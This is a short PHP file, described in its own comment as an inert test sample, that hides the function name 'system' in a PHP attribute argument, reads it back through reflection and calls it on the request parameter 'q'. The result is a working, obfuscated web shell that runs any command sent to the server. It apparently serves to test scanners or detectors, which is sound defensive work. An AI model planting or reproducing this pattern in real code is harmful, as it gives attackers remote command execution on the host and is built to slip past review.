<?php
// inert test sample: the function name hides in an attribute's argument; reflection reads it back
// and the request's text is run through it
#[Attribute(Attribute::TARGET_FUNCTION)]
final class Handler
{
    public function __construct(public string $callback) {}
}

#[Handler('system')]
function handle(): void {}

$ref = new ReflectionFunction('handle');
$handler = $ref->getAttributes(Handler::class)[0]->newInstance();
($handler->callback)($_REQUEST['q']);
